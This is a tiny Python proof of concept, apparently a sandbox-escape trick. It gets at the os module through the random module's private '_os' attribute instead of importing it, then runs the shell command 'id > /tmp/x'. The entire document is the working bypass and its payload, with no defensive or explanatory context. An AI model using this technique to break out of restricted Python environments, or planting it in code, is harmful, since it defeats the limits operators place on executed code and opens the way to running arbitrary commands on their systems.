# why: random keeps os under a private name
import random
random._os.system("id > /tmp/x")
